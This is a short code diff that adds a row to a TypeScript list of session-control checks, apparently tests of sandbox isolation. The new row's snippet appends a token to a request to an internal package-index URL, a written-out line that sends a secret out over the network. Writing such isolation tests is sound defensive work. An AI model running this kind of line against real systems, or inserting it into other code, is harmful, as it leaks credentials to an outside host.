@@ -17,6 +17,12 @@ export const sessionControls: readonly ControlRow[] = [
     code: `print(open(mount + '/notes.txt').read())`,
   },
   {
+    name: 'a question to its index',
+    wants: '',
+    proof: isReceived,
+    code: `get('http://npm.index.skillgate.internal/' + token)`,
+  },
+  {
     name: 'a socket of its own',
     wants: '',
     proof: printsThrough,
